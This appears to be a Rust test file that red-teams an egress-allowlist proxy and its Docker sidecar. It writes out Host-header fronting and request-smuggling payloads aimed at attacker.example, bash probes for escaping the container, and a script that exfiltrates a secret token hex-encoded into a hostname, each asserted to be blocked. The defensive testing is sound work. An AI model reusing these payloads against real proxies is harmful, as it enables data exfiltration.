//! Red team of the egress allowlist (issue 12 item 2): `pace proxy` and its sidecar, as
//! the hostile repository whose `npm ci` / test suite runs behind it would attack them.
//!
//! First the proxy in-process against a local upstream that records every byte it gets
//! (what reaches the allowed host is what the attacker controls there): Host-header
//! fronting, a second request smuggled on a forwarded connection, a flood of refused
//! names that would make the tally unreadable (pace then reports nothing blocked), and
//! concurrent decisions tearing the tally file. Then the sidecar on the real daemon: what
//! routes the set-up container has, and a set-up that times out leaving nothing behind.

use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use pace::proxy::{Allowlist, Entry, Tally};
use pace::sandbox::{LABEL_PROJECT, project_id};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::support::docker::busybox_image;
use crate::support::project::{Project, stderr, stdout};

/// An upstream that records everything each connection sends for `linger` after the head
/// arrives (so smuggled bytes are caught), then answers once and closes.
async fn recording_upstream(linger: Duration) -> (u16, Arc<Mutex<Vec<u8>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 4096];
                let mut got = Vec::new();
                let until = tokio::time::Instant::now() + linger;
                loop {
                    let read = tokio::time::timeout_at(until, s.read(&mut buf)).await;
                    match read {
                        Ok(Ok(n)) if n > 0 => got.extend_from_slice(&buf[..n]),
                        _ => break,
                    }
                }
                record.lock().unwrap().extend_from_slice(&got);
                let body = "upstream-answer";
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = s.write_all(reply.as_bytes()).await;
            });
        }
    });
    (port, seen)
}

async fn proxy(allow: &[String], tally: Tally) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let allow = Allowlist::new(allow.iter().map(|a| Entry::parse(a).unwrap()).collect());
    tokio::spawn(pace::proxy::serve(listener, allow, tally));
    port
}

/// Sends `bytes` to the proxy and reads what comes back until it closes (or 4 s).
async fn raw(proxy: u16, bytes: &str) -> String {
    let mut s = TcpStream::connect(("127.0.0.1", proxy)).await.unwrap();
    s.write_all(bytes.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(4), s.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

/// Plain HTTP to an allowed name is sent to that name's address, but the `Host` header is
/// the client's: behind a CDN (the npm registry, PyPI's file host and the Go proxy all
/// are) the CDN routes by `Host`, so `Host: attacker.example` reaches the attacker's own
/// site on the same CDN: exfiltration through an allowed name ("domain fronting"). The
/// proxy must send the host it checked, whatever (and however many) `Host` the client sent.
#[tokio::test]
async fn host_header_fronting_through_an_allowed_name_is_rewritten() {
    let (up, seen) = recording_upstream(Duration::from_millis(300)).await;
    let port = proxy(&[format!("localhost:{up}")], Tally::new(None)).await;
    for head in [
        format!("GET http://localhost:{up}/leak?d=SECRET HTTP/1.1\r\nHost: attacker.example\r\n\r\n"),
        format!("GET http://localhost:{up}/leak HTTP/1.1\r\nHost: localhost:{up}\r\nHost: attacker.example\r\n\r\n"),
        format!("GET http://localhost:{up}/leak HTTP/1.0\r\nX-Forwarded-Host: x\r\n\r\n"),
    ] {
        let answer = raw(port, &head).await;
        assert!(answer.ends_with("upstream-answer"), "{head:?}: {answer}");
    }
    let seen = String::from_utf8_lossy(&seen.lock().unwrap()).into_owned();
    assert!(
        !seen.contains("attacker.example"),
        "the fronted Host reached upstream:\n{seen}"
    );
    assert_eq!(
        seen.matches(&format!("Host: localhost:{up}\r\n")).count(),
        3,
        "each request carries exactly the checked host:\n{seen}"
    );
}

/// `CONNECT allowed:80` was let through (an entry without a port allowed 443 and 80, for
/// tunnels too): the tunnel carries plain HTTP the proxy never sees, so the attacker sends
/// `Host: attacker.example` inside it and the CDN in front of the allowed registry routes
/// it to the attacker's site (the fronting the forwarded path prevents). Fixed: without
/// an explicit port, `CONNECT` only to 443 and plain HTTP only to 80.
#[tokio::test]
async fn a_tunnel_to_port_80_of_an_allowed_name_is_refused() {
    let port = proxy(&["localhost".to_string()], Tally::new(None)).await;
    let answer = raw(port, "CONNECT localhost:80 HTTP/1.1\r\nHost: localhost:80\r\n\r\n").await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
}

/// Spellings the unit tests do not list: refused (or malformed) at once, nothing reaches
/// the allowed host's port, and nothing is counted as allowed.
#[tokio::test]
async fn more_spellings_of_another_host_are_refused() {
    let (up, seen) = recording_upstream(Duration::from_millis(100)).await;
    let tally = Tally::new(None);
    let port = proxy(&[format!("localhost:{up}")], tally.clone()).await;
    let heads = [
        format!("CONNECT localhost%2eevil.example:{up} HTTP/1.1\r\n\r\n"),
        format!("CONNECT localhost:{up}:{up} HTTP/1.1\r\n\r\n"),
        format!("CONNECT localhost:{up}@evil.example:{up} HTTP/1.1\r\n\r\n"),
        format!("CONNECT [::ffff:127.0.0.1]:{up} HTTP/1.1\r\n\r\n"),
        format!("CONNECT localhost:+{up} HTTP/1.1\r\n\r\n"),
        format!("CONNECT localhost: {up} HTTP/1.1\r\n\r\n"),
        format!("CONNECT xn--localhost-evil.example:{up} HTTP/1.1\r\n\r\n"),
        format!("GET http://localhost:{up}\\@evil.example/ HTTP/1.1\r\n\r\n"),
        format!("GET http://localhost:{up}%40evil.example/ HTTP/1.1\r\n\r\n"),
        format!("GET http://[::1]:{up}/ HTTP/1.1\r\n\r\n"),
        "GET http://localhost:/ HTTP/1.1\r\n\r\n".to_string(),
        format!("GET //localhost:{up}/ HTTP/1.1\r\nHost: localhost:{up}\r\n\r\n"),
        format!("GET localhost:{up}/ HTTP/1.1\r\n\r\n"),
        format!("GET / HTTP/1.1\r\nHost: localhost:{up}\r\n\r\n"),
        format!("OPTIONS * HTTP/1.1\r\nHost: localhost:{up}\r\n\r\n"),
    ];
    for head in &heads {
        let answer = raw(port, head).await;
        assert!(
            answer.starts_with("HTTP/1.1 403") || answer.starts_with("HTTP/1.1 400") || answer.is_empty(),
            "{head:?}: {answer}"
        );
        assert!(!answer.contains("upstream-answer"), "{head:?}: {answer}");
    }
    assert!(seen.lock().unwrap().is_empty(), "something reached the allowed port");
    let allowed: Vec<_> = tally.entries().into_iter().filter(|e| e.allowed).collect();
    assert!(allowed.is_empty(), "{allowed:?}");
}

/// A forwarded request is "once per connection", but whatever the client sends after its
/// head was copied upstream: a pipelined second request (with its own `Host`), or bytes
/// after a declared body, reach the allowed host uncounted and unchecked, and a server
/// that reads on despite `Connection: close` (many do for pipelined requests) answers
/// them. Only the head and the body it declares may go upstream.
#[tokio::test]
async fn a_second_request_smuggled_on_a_forwarded_connection_never_reaches_upstream() {
    let (up, seen) = recording_upstream(Duration::from_millis(500)).await;
    let tally = Tally::new(None);
    let port = proxy(&[format!("localhost:{up}")], tally.clone()).await;
    let pipelined = format!(
        "GET http://localhost:{up}/first HTTP/1.1\r\nHost: localhost:{up}\r\n\r\nGET /smuggled-pipelined HTTP/1.1\r\nHost: attacker.example\r\n\r\n"
    );
    assert!(raw(port, &pipelined).await.ends_with("upstream-answer"));
    let with_body = format!(
        "POST http://localhost:{up}/form HTTP/1.1\r\nHost: localhost:{up}\r\nContent-Length: 5\r\n\r\nhelloGET /smuggled-after-body HTTP/1.1\r\nHost: attacker.example\r\n\r\n"
    );
    assert!(raw(port, &with_body).await.ends_with("upstream-answer"));
    // Chunked bodies are where proxies and servers disagree on the length (TE.CL): not
    // forwarded at all.
    let chunked = format!(
        "POST http://localhost:{up}/c HTTP/1.1\r\nHost: localhost:{up}\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET /smuggled-chunked HTTP/1.1\r\nHost: attacker.example\r\n\r\n"
    );
    let answer = raw(port, &chunked).await;
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");

    let seen = String::from_utf8_lossy(&seen.lock().unwrap()).into_owned();
    assert!(seen.contains("GET /first HTTP/1.1\r\n"), "{seen}");
    assert!(
        seen.contains("\r\n\r\nhello"),
        "the declared body is forwarded:\n{seen}"
    );
    assert!(!seen.contains("smuggled"), "a second request reached upstream:\n{seen}");
    assert!(!seen.contains("attacker.example"), "{seen}");
}

/// pace reads the proxy's tally back with a 1 MiB cap and, above it, reports an *empty*
/// tally (nothing blocked, in `egress.yaml`, summary.md and the MR). Refused targets are
/// counted under what was asked, so a set-up that asks for a few thousand invented names
/// (cheap: each is refused at once) first hides the host it really tried, then makes
/// every later write slower (the whole tally is rewritten per request). The tally must stay
/// bounded: the first hosts kept, the rest counted together.
#[tokio::test]
async fn a_flood_of_refused_names_cannot_bury_the_tally() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("egress.yaml");
    let tally = Tally::new(Some(file.clone()));
    let port = proxy(&["allowed.example".to_string()], tally.clone()).await;
    let answer = raw(port, "CONNECT exfil-target.example:443 HTTP/1.1\r\n\r\n").await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    let filler = "x".repeat(100);
    for i in 0..1500 {
        let mut s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        let head = format!("CONNECT n{i}{filler}.example:443 HTTP/1.1\r\n\r\n");
        s.write_all(head.as_bytes()).await.unwrap();
        let mut out = Vec::new();
        s.read_to_end(&mut out).await.unwrap();
    }
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(
        text.len() < 64 * 1024,
        "the tally grows with every invented name: {} bytes after 1500",
        text.len()
    );
    let entries = pace::proxy::parse_tally(&text).unwrap();
    assert!(
        entries
            .iter()
            .any(|e| e.host == "exfil-target.example" && !e.allowed && e.count == 1),
        "the host really tried is still listed"
    );
    let refused: u64 = entries.iter().filter(|e| !e.allowed).map(|e| e.count).sum();
    assert_eq!(refused, 1501, "every refusal is still counted");
    let line = pace::proxy::describe_tally(&entries).unwrap();
    assert!(line.contains("exfil-target.example:443"), "{line}");
}

/// Every decision rewrites the tally through one temporary file name per process: two
/// decisions at once truncate and write the same file, and the rename publishes a mix of
/// both (pace then reads an invalid tally, i.e. none). Many clients at once, then the
/// file must be the complete tally.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_decisions_never_tear_the_tally_file() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("egress.yaml");
    let tally = Tally::new(Some(file.clone()));
    let port = proxy(&["allowed.example".to_string()], tally.clone()).await;
    for round in 0..6 {
        let clients: Vec<_> = (0..48)
            .map(|i| {
                tokio::spawn(async move {
                    // Names of very different lengths: a torn file shows as a mix.
                    let name = format!("r{round}c{i}{}.example", "y".repeat(i * 2));
                    raw(port, &format!("CONNECT {name}:443 HTTP/1.1\r\n\r\n")).await
                })
            })
            .collect();
        for c in clients {
            assert!(c.await.unwrap().starts_with("HTTP/1.1 403"));
        }
        let text = std::fs::read_to_string(&file).unwrap();
        let entries = pace::proxy::parse_tally(&text).unwrap_or_else(|e| panic!("round {round}: {e}\n{text}"));
        assert_eq!(entries, tally.entries(), "round {round}: the file is the whole tally");
    }
}

/// Tunnels have no idle limit and the proxy serves 512 connections at once: a suite that
/// opens 512 tunnels to an allowed host (or whose tunnels outlive its removed container,
/// whose peers never close) left every later client waiting unanswered, the day's later
/// commands hanging until their own timeouts. A client past the limit is answered at once.
#[tokio::test]
async fn a_client_past_the_connection_limit_is_answered_at_once() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = listener.local_addr().unwrap().port();
    // An upstream that accepts and holds every connection.
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((s, _)) = listener.accept().await {
            held.push(s);
        }
    });
    let port = proxy(&[format!("localhost:{up}")], Tally::new(None)).await;
    let mut tunnels = Vec::new();
    for _ in 0..512 {
        let mut s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        s.write_all(format!("CONNECT localhost:{up} HTTP/1.1\r\n\r\n").as_bytes())
            .await
            .unwrap();
        let mut answer = [0u8; 39];
        s.read_exact(&mut answer).await.unwrap();
        assert!(answer.starts_with(b"HTTP/1.1 200"));
        tunnels.push(s);
    }
    let started = Instant::now();
    let answer = tokio::time::timeout(
        Duration::from_secs(5),
        raw(port, "CONNECT blocked.example:443 HTTP/1.1\r\n\r\n"),
    )
    .await
    .unwrap_or_default();
    assert!(
        answer.starts_with("HTTP/1.1 503"),
        "after {:?}: {answer:?}",
        started.elapsed()
    );
    assert!(answer.contains("512 connections"), "{answer}");
    drop(tunnels);
}

/// The slots themselves: a tunnel whose client went with its removed container (its side
/// never closes, no byte ever comes) held its slot for the rest of a day-long proxy,
/// as did a forwarded request whose upstream never answers. Both are closed after the
/// idle limit (seconds here, minutes in `pace proxy`), which frees the slot.
#[tokio::test]
async fn a_silent_tunnel_or_exchange_is_closed_after_the_idle_limit() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((s, _)) = listener.accept().await {
            held.push(s);
        }
    });
    let proxy_listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = proxy_listener.local_addr().unwrap().port();
    let allow = Allowlist::new(vec![Entry::parse(&format!("localhost:{up}")).unwrap()]);
    tokio::spawn(pace::proxy::serve_with_idle(
        proxy_listener,
        allow,
        Tally::new(None),
        Duration::from_secs(1),
    ));
    for head in [
        format!("CONNECT localhost:{up} HTTP/1.1\r\n\r\n"),
        format!("GET http://localhost:{up}/ HTTP/1.1\r\nHost: localhost:{up}\r\n\r\n"),
    ] {
        let mut s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        s.write_all(head.as_bytes()).await.unwrap();
        let started = Instant::now();
        let mut out = Vec::new();
        let closed = tokio::time::timeout(Duration::from_secs(6), s.read_to_end(&mut out)).await;
        assert!(closed.is_ok(), "{head:?}: still open after {:?}", started.elapsed());
        assert!(
            started.elapsed() >= Duration::from_millis(900),
            "{head:?}: closed too early"
        );
    }
}

// ---------------------------------------------------------------------------------
// The sidecar on the real daemon.

use crate::egress::Outside;
use crate::support::docker::{cli as docker, debian_base as debian};

/// A project whose set-up runs `script` (bash) behind the proxy allowing `allowed.test`.
fn project(outside: &Outside, image: &str, script: &str, timeout: u32) -> Project {
    let p = Project::example_with_image(image);
    std::fs::write(p.path("attack.sh"), script.replace("OUTSIDE_IP", &outside.blocked_ip)).unwrap();
    let config = p
        .read("pace.config.yaml")
        .replace(
            "  test_command: sh tests/run.sh",
            "  test_command: echo SUITE-RAN\n  setup_command: bash attack.sh",
        )
        .replace(
            "  caches: false        # a shell project has no dependencies to cache",
            &format!(
                "  caches: false\n  setup_network: {}\n  egress: [allowed.test]",
                outside.network
            ),
        )
        .replace("  timeout: 120", &format!("  timeout: {timeout}"));
    assert!(config.contains("egress: [allowed.test]") && config.contains(&format!("timeout: {timeout}")));
    std::fs::write(p.path("pace.config.yaml"), config).unwrap();
    p.git(&["add", "-A"]);
    p.git(&["commit", "-qm", "attack"]);
    p
}

fn leftovers(p: &Project) -> (String, String) {
    let filter = format!("label={LABEL_PROJECT}={}", project_id(&p.root));
    let containers = docker(&["ps", "-aq", "--filter", &filter]);
    let networks = docker(&["network", "ls", "-q", "--filter", &filter]);
    (containers.trim().to_string(), networks.trim().to_string())
}

fn results(log: &str) -> Vec<(String, String)> {
    log.lines()
        .filter_map(|l| l.strip_prefix("RESULT "))
        .filter_map(|l| l.split_once(' '))
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

/// Every way out of the set-up container other than the proxy, as root inside it would
/// look for one: a gateway that answers (v4), a default route or global address (v6), the capability to add
/// a route through the proxy container (`NET_ADMIN`), the outside network's names in the
/// embedded DNS, the outside server by address.
const PROBE: &str = r#"#!/bin/bash
r() { echo "RESULT $1 $2"; }
# Docker gives a default route even on an internal network; what matters is whether the
# gateway exists: with `inhibit_ipv4` the host's bridge has no address, so nothing answers
# ARP for it (an incomplete entry, flags 0x0) and nothing can be routed through it.
g=$(awk 'NR>1 && $2=="00000000" {print $3; exit}' /proc/net/route)
if [ -n "$g" ]; then
  gw=$(printf '%d.%d.%d.%d' 0x${g:6:2} 0x${g:4:2} 0x${g:2:2} 0x${g:0:2})
  timeout 3 bash -c "exec 3<>/dev/tcp/$gw/80" 2>/dev/null
  awk -v ip="$gw" '$1==ip && $3=="0x2" {f=1} END {exit !f}' /proc/net/arp && r v4-gateway answers || r v4-gateway silent
else
  r v4-gateway silent
fi
grep -qv -e '^00000000000000000000000000000001' -e '^fe80' /proc/net/if_inet6 2>/dev/null && r v6-global yes || r v6-global no
awk '$1=="00000000000000000000000000000000" && $10!="lo" {f=1} END {exit !f}' /proc/net/ipv6_route 2>/dev/null && r v6-default-route yes || r v6-default-route no
cap=$(awk '/^CapEff/ {print $2}' /proc/self/status)
(( (0x$cap >> 12) & 1 )) && r net-admin yes || r net-admin no
getent hosts blocked.test >/dev/null && r outside-name resolves || r outside-name unresolved
timeout 5 bash -c 'exec 3<>/dev/tcp/OUTSIDE_IP/80' 2>/dev/null && r outside-ip open || r outside-ip closed
# The proxy container's other ports (only the proxy should answer).
proxy=${HTTP_PROXY#http://}; ph=${proxy%:*}
timeout 3 bash -c "exec 3<>/dev/tcp/$ph/22" 2>/dev/null && r proxy-other-port open || r proxy-other-port closed
exit 0
"#;

#[test]
fn the_set_up_container_has_no_route_but_the_proxy() {
    require_docker!();
    let Some(image) = debian() else { return };
    let outside = Outside::start(&format!("r{:x}p", std::process::id()));
    let p = project(&outside, &image, PROBE, 120);
    let out = p.pace_gate().output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    let log = p.read(".pace/setup/output.log");
    let expected: Vec<(String, String)> = [
        ("v4-gateway", "silent"),
        ("v6-global", "no"),
        ("v6-default-route", "no"),
        ("net-admin", "no"),
        ("outside-name", "unresolved"),
        ("outside-ip", "closed"),
        ("proxy-other-port", "closed"),
    ]
    .iter()
    .map(|(a, b)| (a.to_string(), b.to_string()))
    .collect();
    assert_eq!(results(&log), expected, "{log}");
    assert_eq!(leftovers(&p), (String::new(), String::new()));
}

/// A set-up that asks for a blocked host, then hangs past `sandbox.timeout` (a postinstall
/// that never ends): the day holds, the blocked host is still in the tally, and the proxy
/// and its network are gone.
#[test]
fn a_set_up_that_times_out_leaves_no_proxy_or_network_and_keeps_the_tally() {
    require_docker!();
    let Some(image) = debian() else { return };
    let outside = Outside::start(&format!("r{:x}o", std::process::id()));
    let script = r#"#!/bin/bash
proxy=${HTTP_PROXY#http://}
exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}"
printf 'CONNECT blocked.test:443 HTTP/1.1\r\n\r\n' >&3
timeout 5 head -c 12 <&3; echo
# Keep a tunnel-less connection to the proxy open too, then hang.
exec 4<>"/dev/tcp/${proxy%:*}/${proxy##*:}"
sleep 600
"#;
    let p = project(&outside, &image, script, 8);
    let started = Instant::now();
    let out = p.pace_gate().output().unwrap();
    assert!(started.elapsed() < Duration::from_secs(90), "{:?}", started.elapsed());
    assert_ne!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    assert!(!stdout(&out).contains("SUITE-RAN"));
    let tally = p.read(".pace/egress.yaml");
    assert!(tally.contains("host: blocked.test"), "{tally}");
    assert_eq!(leftovers(&p), (String::new(), String::new()));
}

/// The set-up container's script for the lifecycle attacks: one refused request (so the
/// tally has something to lose), a marker, then a long wait.
const ASK_THEN_WAIT: &str = r#"#!/bin/bash
proxy=${HTTP_PROXY#http://}
exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}"
printf 'CONNECT blocked.test:443 HTTP/1.1\r\n\r\n' >&3
timeout 5 head -c 12 <&3; echo
echo ASKED
sleep ${WAIT:-600}
exit 0
"#;

/// Waits until the project's set-up container and the proxy both run.
fn wait_for_two_containers(p: &Project) {
    let deadline = Instant::now() + Duration::from_secs(120);
    while leftovers(p).0.lines().count() < 2 {
        assert!(
            Instant::now() < deadline,
            "no set-up container behind the proxy appeared"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// SIGINT (Ctrl-C on a developer's machine) while the set-up runs behind the proxy: the
/// proxy, the set-up container and the internal network are removed.
#[test]
fn sigint_during_the_set_up_leaves_no_proxy_or_network() {
    require_docker!();
    let Some(image) = debian() else { return };
    let outside = Outside::start(&format!("r{:x}i", std::process::id()));
    let p = project(&outside, &image, ASK_THEN_WAIT, 300);
    let child = p
        .pace_gate()
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_two_containers(&p);
    std::thread::sleep(Duration::from_secs(2));
    let killed = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(130), "{}\n{}", stdout(&out), stderr(&out));
    assert_eq!(leftovers(&p), (String::new(), String::new()));
}

/// The proxy dies while the set-up runs (killed, as the OOM killer would): the set-up
/// fails to reach anything from then on, the run ends, the tally counted before the
/// death is still read back (from the stopped container) and nothing is left behind.
#[test]
fn a_proxy_that_dies_mid_set_up_is_cleaned_up_and_its_tally_kept() {
    require_docker!();
    let Some(image) = debian() else { return };
    let outside = Outside::start(&format!("r{:x}d", std::process::id()));
    let p = project(&outside, &image, &ASK_THEN_WAIT.replace("${WAIT:-600}", "8"), 300);
    let child = p
        .pace_gate()
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_two_containers(&p);
    std::thread::sleep(Duration::from_secs(3));
    let filter = format!("label={LABEL_PROJECT}={}", project_id(&p.root));
    let proxies = docker(&["ps", "-q", "--filter", &filter, "--filter", "label=pace.egress=proxy"]);
    let proxy = proxies.trim();
    assert_eq!(proxy.lines().count(), 1, "one proxy container: {proxies:?}");
    docker(&["kill", proxy]);
    let out = child.wait_with_output().unwrap();
    assert!(out.status.code().is_some(), "{}\n{}", stdout(&out), stderr(&out));
    let tally = p.read(".pace/egress.yaml");
    assert!(tally.contains("host: blocked.test"), "{tally}\n{}", stderr(&out));
    assert_eq!(leftovers(&p), (String::new(), String::new()));
}

/// The tally records refused targets as asked, and `egress.yaml` is an artifact of the
/// day (committed with `.pace/`, listed in summary.md and the MR): a set-up that asks for
/// `<a sandbox.env secret, in hex>.leak.example` publishes it there, where every other
/// artifact passes through the redactor (which knows the hex form). The tally must be
/// redacted like the set-up's output log.
#[test]
fn a_secret_spelled_as_a_refused_host_name_is_redacted_from_the_tally() {
    require_docker!();
    let Some(image) = debian() else { return };
    let outside = Outside::start(&format!("r{:x}s", std::process::id()));
    let script = r#"#!/bin/bash
proxy=${HTTP_PROXY#http://}
hex=$(printf %s "$RED3_TOKEN" | od -An -tx1 | tr -d ' \n')
for target in "$hex.leak.example:443" "$RED3_TOKEN.leak.example:443"; do
  exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}"
  printf 'CONNECT %s HTTP/1.1\r\n\r\n' "$target" >&3
  timeout 5 head -c 12 <&3; echo
  exec 3<&-
done
"#;
    let p = project(&outside, &image, script, 120);
    let config = p.read("pace.config.yaml").replace(
        "  egress: [allowed.test]",
        "  egress: [allowed.test]\n  env: [RED3_TOKEN]",
    );
    std::fs::write(p.path("pace.config.yaml"), config).unwrap();
    p.git(&["commit", "-qam", "env"]);
    let secret = "r3dt3amtok3nabcdef0123456789";
    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
    let out = p.pace_gate().env("RED3_TOKEN", secret).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    let tally = p.read(".pace/egress.yaml");
    assert!(tally.contains(".leak.example"), "the requests were made: {tally}");
    for needle in [secret, hex.as_str()] {
        assert!(!tally.contains(needle), "egress.yaml carries the secret:\n{tally}");
        assert!(!stdout(&out).contains(needle) && !stderr(&out).contains(needle));
    }
    assert!(tally.contains("[REDACTED].leak.example"), "{tally}");
}

/// `sandbox.setup_network: host` (the issue's "where only that works") or `none` with an
/// egress list: such a container cannot join another network, so the proxy could not be
/// attached to the internal one. The run must refuse with an error naming both settings
/// (never run the set-up unconfined), and leave nothing behind. Held: `pace validate`
/// refuses the combination.
#[test]
fn egress_with_a_host_or_no_set_up_network_fails_closed() {
    require_docker!();
    let Some(image) = debian() else { return };
    let outside = Outside::start(&format!("r{:x}h", std::process::id()));
    let p = project(&outside, &image, PROBE, 120);
    for mode in ["host", "none"] {
        let config = p.read("pace.config.yaml").replace(
            &format!("setup_network: {}", outside.network),
            &format!("setup_network: {mode}"),
        );
        std::fs::write(p.path("pace.config.yaml"), config).unwrap();
        let out = p.pace_gate().output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{mode}: {}\n{}", stdout(&out), stderr(&out));
        assert!(
            stderr(&out).contains(&format!(
                "`sandbox.egress` cannot be used with `sandbox.setup_network: {mode}`"
            )),
            "{}",
            stderr(&out)
        );
        assert!(!p.path(".pace/setup/output.log").exists(), "{mode}: the set-up ran");
        assert_eq!(leftovers(&p), (String::new(), String::new()));
        std::fs::write(
            p.path("pace.config.yaml"),
            p.read("pace.config.yaml").replace(
                &format!("setup_network: {mode}"),
                &format!("setup_network: {}", outside.network),
            ),
        )
        .unwrap();
    }
}

/// The proxy listens on every address of its container, its `setup_network` one included:
/// any other container on that network (the default `bridge` is shared by every job on a
/// runner) could use it to reach the allowed hosts, fill its connection slots and add to
/// this day's tally (which then lied about what the set-up asked for). Fixed: pace passes
/// the internal network's subnet to `pace proxy` (`--clients CIDR`), which closes any
/// other peer unanswered and uncounted.
#[test]
fn a_neighbour_on_the_set_up_network_cannot_use_the_proxy() {
    require_docker!();
    let Some(image) = debian() else { return };
    let outside = Outside::start(&format!("r{:x}n", std::process::id()));
    let p = project(&outside, &image, &ASK_THEN_WAIT.replace("${WAIT:-600}", "15"), 120);
    let child = p
        .pace_gate()
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_two_containers(&p);
    let filter = format!("label={LABEL_PROJECT}={}", project_id(&p.root));
    let proxy = docker(&["ps", "-q", "--filter", &filter, "--filter", "label=pace.egress=proxy"]);
    let format = format!(
        "{{{{(index .NetworkSettings.Networks \"{}\").IPAddress}}}}",
        outside.network
    );
    let ip = docker(&["inspect", "-f", &format, proxy.trim()]).trim().to_string();
    assert!(!ip.is_empty(), "the proxy has an address on the set-up network");
    let script =
        format!("(printf 'CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\n'; sleep 2) | nc -w 3 {ip} 3128 | head -c 12");
    let neighbour = docker(&[
        "run",
        "--rm",
        "--network",
        &outside.network,
        &busybox_image(),
        "sh",
        "-c",
        &script,
    ]);
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    // Here the allowed name does not exist outside, so a request let through is a 502
    // (the proxy tried to connect); a refused neighbour gets nothing or a 403.
    assert!(
        neighbour.is_empty() || neighbour.starts_with("HTTP/1.1 403"),
        "a neighbour container was served by the proxy: {neighbour:?}"
    );
    let tally = p.read(".pace/egress.yaml");
    assert!(
        !tally.contains("host: allowed.test"),
        "the neighbour's request ({neighbour:?}) is in this day's tally:\n{tally}"
    );
}

/// The tally used to be added to the `egress.yaml` already in the checkout: a repository
/// that commits `.pace/egress.yaml` (or `.pace/day-N/egress.yaml`) with hosts of its own
/// made the summary and the MR report requests nobody made. The file now holds this run's
/// proxies only.
#[test]
fn a_planted_tally_is_replaced_not_added_to() {
    require_docker!();
    let Some(image) = debian() else { return };
    let outside = Outside::start(&format!("r{:x}p", std::process::id()));
    let p = project(&outside, &image, "#!/bin/bash\nexit 0\n", 120);
    std::fs::create_dir_all(p.path(".pace")).unwrap();
    std::fs::write(
        p.path(".pace/egress.yaml"),
        "- host: planted.example\n  port: 443\n  allowed: true\n  count: 99\n",
    )
    .unwrap();
    p.git(&["add", "-f", ".pace/egress.yaml"]);
    p.git(&["commit", "-qm", "a planted tally"]);
    let out = p.pace_gate().output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    let tally = p.read(".pace/egress.yaml");
    assert!(!tally.contains("planted.example"), "{tally}");
    assert_eq!(leftovers(&p), (String::new(), String::new()));
}
